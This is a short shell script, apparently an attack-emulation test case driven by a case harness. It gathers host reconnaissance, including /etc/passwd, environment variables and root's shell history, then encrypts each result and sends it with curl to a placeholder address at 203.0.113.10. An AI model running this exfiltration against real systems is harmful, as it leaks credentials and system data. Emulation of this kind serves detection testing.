#!/bin/sh
. /opt/case/case.sh

openssl genrsa 2048 2>/dev/null | openssl rsa -pubout -out /tmp/.pub 2>/dev/null
for c in id 'uname -a' 'cat /etc/passwd' 'ps aux' env 'ss -tnp' 'cat /root/.bash_history' 'ls -laR /root'; do
    openssl rand -hex 16 >/tmp/.s
    { openssl pkeyutl -encrypt -pubin -inkey /tmp/.pub -in /tmp/.s; sh -c "$c" 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass file:/tmp/.s; } | curl -sf --data-binary @- -A 'Mozilla/5.0' http://203.0.113.10:8080/sync >/dev/null
    rm /tmp/.s; sleep 0.4
done
took_place
